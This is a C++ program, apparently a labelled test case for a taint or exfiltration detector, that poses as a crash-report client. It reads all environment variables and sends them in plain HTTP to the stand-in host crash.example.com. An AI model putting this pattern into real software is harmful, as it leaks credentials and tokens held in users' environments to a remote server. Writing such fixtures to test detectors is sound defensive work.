// blind-expect: taint.exfiltration
// Crash-report client that posts an environment snapshot to a collection server.
#include <arpa/inet.h>
#include <netdb.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

extern char **environ;

static std::vector<std::string> snapshotEnvironment() {
    std::vector<std::string> vars;
    for (char **e = environ; e && *e; ++e)
        vars.emplace_back(*e);
    return vars;
}

static int dial(const char *host, const char *port) {
    addrinfo hints{}, *res = nullptr;
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    int fd = -1;
    for (addrinfo *p = res; p; p = p->ai_next) {
        fd = socket(p->ai_family, p->ai_socktype, p->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, p->ai_addr, p->ai_addrlen) == 0)
            break;
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

int main() {
    std::vector<std::string> vars = snapshotEnvironment();
    int fd = dial("crash.example.com", "80");
    if (fd < 0) {
        std::perror("dial");
        return 1;
    }
    FILE *net = fdopen(fd, "w");
    if (!net) {
        close(fd);
        return 1;
    }
    std::string body;
    for (const auto &v : vars)
        body += v + "\n";
    std::fprintf(net, "POST /report HTTP/1.0\r\nHost: crash.example.com\r\n");
    std::fprintf(net, "Content-Length: %zu\r\n\r\n", body.size());
    std::fprintf(net, "%s", body.c_str());
    std::fclose(net);
    return 0;
}
